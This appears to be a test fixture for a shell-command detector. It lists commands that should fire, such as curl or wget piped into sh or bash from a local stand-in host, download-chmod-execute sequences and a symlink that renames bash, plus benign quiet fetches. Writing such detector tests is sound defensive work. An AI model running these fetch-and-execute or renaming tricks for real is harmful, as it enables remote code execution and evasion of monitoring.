#: fires
sh -c 'curl -s --max-time 1 http://127.0.0.1:9/i | sh'
#: fires -- by another tool and shell
bash -c 'wget -q -T 1 -t 1 -O- http://127.0.0.1:9/i | bash -s' || true
#: fires -- by a file
sh -c 'curl -s --max-time 1 -o /tmp/i file:///usr/bin/true; chmod +x /tmp/i; /tmp/i'
#: fires -- by a shell that is called otherwise
ln -s /usr/bin/bash /home/tool
/home/tool -c 'bash <(curl -s --max-time 1 http://127.0.0.1:9/i)'
#: quiet
sh -c 'curl -s --max-time 1 http://127.0.0.1:9/health || true'
sh -c 'curl -s --max-time 1 http://127.0.0.1:9/list | sort | head -1'
sh -c 'wget -q -T 1 -t 1 -O /tmp/list http://127.0.0.1:9/list || true'
